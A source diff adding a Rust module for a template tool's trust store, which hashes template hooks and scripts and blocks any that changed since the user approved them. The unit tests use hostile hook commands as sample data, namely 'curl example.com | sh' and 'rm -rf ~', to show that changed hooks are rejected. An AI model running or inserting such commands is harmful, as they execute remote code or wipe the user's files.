@@ -0,0 +1,221 @@
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use crate::{app_name, trust_store_name};
+use crate::constants::{APP_NAME, TRUST_STORE_NAME};
+use crate::hooks_module::TemplateHooks;
+use crate::scripts_module::TemplateScripts;
+use crate::AppError;
+
+/// The hooks and scripts the user approved, stored next to the config file.
+/// Every trusted template is recorded with the hash of the hooks and scripts it had when it was trusted.
+#[derive(Serialize, Deserialize, Debug, Default, Clone, PartialEq)]
+pub struct TrustStore {
+    #[serde(default)]
+    pub templates: BTreeMap<String, String>,
+}
+
+impl TrustStore {
+    /// Returns true if the template was trusted with exactly these hooks and scripts.
+    pub fn is_trusted(&self, template_name: &str, hash: &str) -> bool {
+        self.templates.get(template_name).map(String::as_str) == Some(hash)
+    }
+
+    /// Records the hooks and scripts of the template as trusted, replacing the ones trusted before.
+    pub fn trust(&mut self, template_name: &str, hash: String) {
+        self.templates.insert(template_name.to_string(), hash);
+    }
+}
+
+/// Returns the path of the trust store, in the config directory.
+pub fn trust_store_path() -> Result<PathBuf, AppError> {
+    Ok(confy::get_configuration_file_path(app_name!(), trust_store_name!())?)
+}
+
+/// Loads the trust store, an empty one if it does not exist yet.
+///
+/// # Arguments
+///
+/// * `path`: &Path - The path of the trust store
+///
+/// returns: Result<TrustStore, AppError>
+///
+/// # Examples
+///
+/// ```rust,ignore
+/// use cli::trust_module::{code_hash, load_trust_store, trust_store_path, TemplateCode};
+///
+/// let store = load_trust_store(&trust_store_path()?)?;
+/// let code = TemplateCode::load(&template_root, &manifest.hooks, &manifest.scripts)?;
+///
+/// if !store.is_trusted("rust-cli", &code_hash(&code)?) {
+///     println!("The hooks or scripts of rust-cli changed.");
+/// }
+/// ```
+pub fn load_trust_store(path: &Path) -> Result<TrustStore, AppError> {
+    Ok(confy::load_path(path)?)
+}
+
+/// Stores the trust store.
+///
+/// # Arguments
+///
+/// * `path`: &Path - The path of the trust store
+/// * `store`: &TrustStore - The trusted templates
+///
+/// returns: Result<(), AppError>
+pub fn store_trust_store(path: &Path, store: &TrustStore) -> Result<(), AppError> {
+    Ok(confy::store_path(path, store)?)
+}
+
+/// The code a template runs on the machine of the user, which must be trusted before it runs:
+/// its hooks and the content of its scripts. A post-load script can write files such as `.git/hooks/pre-commit`
+/// or `build.rs`, which run later, so scripts are trusted like hooks. Pre-load scripts also run with `--no-hooks`
+/// and `--dry-run`, so a template that has them is always checked.
+#[derive(Serialize, Debug, Default, Clone, PartialEq)]
+pub struct TemplateCode {
+    pub hooks: TemplateHooks,
+    /// The path of every script, relative to the template root, and its content
+    pub scripts: Vec<(String, String)>,
+}
+
+impl TemplateCode {
+    /// Reads the hooks and the scripts declared by the manifest of a template.
+    ///
+    /// # Arguments
+    ///
+    /// * `template_root`: &Path - The root directory of the template
+    /// * `hooks`: &TemplateHooks - The hooks declared by the manifest
+    /// * `scripts`: &TemplateScripts - The scripts declared by the manifest
+    ///
+    /// returns: Result<TemplateCode, AppError>
+    pub fn load(template_root: &Path, hooks: &TemplateHooks, scripts: &TemplateScripts) -> Result<Self, AppError> {
+        let mut contents = Vec::new();
+        for script in scripts.paths() {
+            contents.push((script.clone(), std::fs::read_to_string(template_root.join(script))?));
+        }
+
+        Ok(Self {
+            hooks: hooks.clone(),
+            scripts: contents,
+        })
+    }
+
+    /// Returns true if the template runs no code.
+    pub fn is_empty(&self) -> bool {
+        self.hooks.post_load.is_empty() && self.scripts.is_empty()
+    }
+
+    /// Returns one line per hook and script, shown when the user is asked to trust them.
+    pub fn descriptions(&self) -> Vec<String> {
+        self.hooks
+            .post_load
+            .iter()
+            .map(|command| format!("post_load: {}", command))
+            .chain(self.scripts.iter().map(|(script, _)| format!("script: {}", script)))
+            .collect()
+    }
+}
+
+/// Returns the SHA-256 hash of the hooks and the scripts of a template, as hexadecimal text.
+///
+/// # Arguments
+///
+/// * `code`: &TemplateCode - The hooks and scripts of a template
+///
+/// returns: Result<String, AppError>
+pub fn code_hash(code: &TemplateCode) -> Result<String, AppError> {
+    let definitions = serde_json::to_string(code)?;
+    let digest = Sha256::digest(definitions.as_bytes());
+
+    Ok(digest.iter().map(|byte| format!("{:02x}", byte)).collect())
+}
+
+/// Checks that the hooks and scripts of a template were trusted as they are now. A template without them needs no trust.
+///
+/// # Arguments
+///
+/// * `store`: &TrustStore - The trusted templates
+/// * `template_name`: &str - The name of the template
+/// * `code`: &TemplateCode - The hooks and scripts of the template
+///
+/// returns: Result<(), AppError>
+pub fn check_trusted(store: &TrustStore, template_name: &str, code: &TemplateCode) -> Result<(), AppError> {
+    if code.is_empty() || store.is_trusted(template_name, &code_hash(code)?) {
+        return Ok(());
+    }
+
+    Err(AppError::UntrustedHooks {
+        template_name: template_name.to_string(),
+        commands: code.descriptions(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+    use crate::AppError;
+    use crate::hooks_module::TemplateHooks;
+    use crate::scripts_module::TemplateScripts;
+    use crate::trust_module::{check_trusted, code_hash, load_trust_store, store_trust_store, TemplateCode, TrustStore};
+
+    fn hooks_code(commands: &[&str]) -> TemplateCode {
+        TemplateCode {
+            hooks: TemplateHooks { post_load: commands.iter().map(|command| command.to_string()).collect() },
+            scripts: Vec::new(),
+        }
+    }
+
+    #[test]
+    fn test_code_hash() -> Result<(), AppError> {
+        let code = hooks_code(&["git init"]);
+        let changed = hooks_code(&["git init", "curl example.com | sh"]);
+
+        assert_eq!(code_hash(&code)?.len(), 64);
+        assert_eq!(code_hash(&code)?, code_hash(&code.clone())?);
+        assert_ne!(code_hash(&code)?, code_hash(&changed)?);
+
+        let template_root = Path::new("/tmp/templater_trust_template/");
+        std::fs::create_dir_all(template_root.join("scripts"))?;
+        std::fs::write(template_root.join("scripts/finish.rhai"), "write_file(\"notes.md\", \"\")")?;
+
+        let scripts = TemplateScripts { pre_load: Vec::new(), post_load: vec!["scripts/finish.rhai".to_string()] };
+        let script_code = TemplateCode::load(template_root, &TemplateHooks::default(), &scripts)?;
+        assert!(!script_code.is_empty());
+        assert_eq!(script_code.descriptions(), vec!["script: scripts/finish.rhai"]);
+
+        std::fs::write(template_root.join("scripts/finish.rhai"), "write_file(\".git/hooks/pre-commit\", \"\")")?;
+        let changed = TemplateCode::load(template_root, &TemplateHooks::default(), &scripts)?;
+        assert_ne!(code_hash(&script_code)?, code_hash(&changed)?);
+
+        std::fs::remove_dir_all(template_root)?;
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_check_trusted() -> Result<(), AppError> {
+        let path = Path::new("/tmp/templater_trust_store/trust.toml");
+        let code = hooks_code(&["git init"]);
+        let changed = hooks_code(&["git init", "rm -rf ~"]);
+
+        let mut store = load_trust_store(path)?;
+        assert_eq!(store, TrustStore::default());
+
+        assert!(check_trusted(&store, "rust-cli", &TemplateCode::default()).is_ok());
+        assert!(matches!(check_trusted(&store, "rust-cli", &code), Err(AppError::UntrustedHooks { .. })));
+
+        store.trust("rust-cli", code_hash(&code)?);
+        store_trust_store(path, &store)?;
+        let store = load_trust_store(path)?;
+
+        assert!(check_trusted(&store, "rust-cli", &code).is_ok());
+        assert!(matches!(check_trusted(&store, "rust-cli", &changed), Err(AppError::UntrustedHooks { .. })));
+        assert!(matches!(check_trusted(&store, "other", &code), Err(AppError::UntrustedHooks { .. })));
+
+        std::fs::remove_dir_all(path.parent().unwrap())?;
+
+        Ok(())
+    }
+}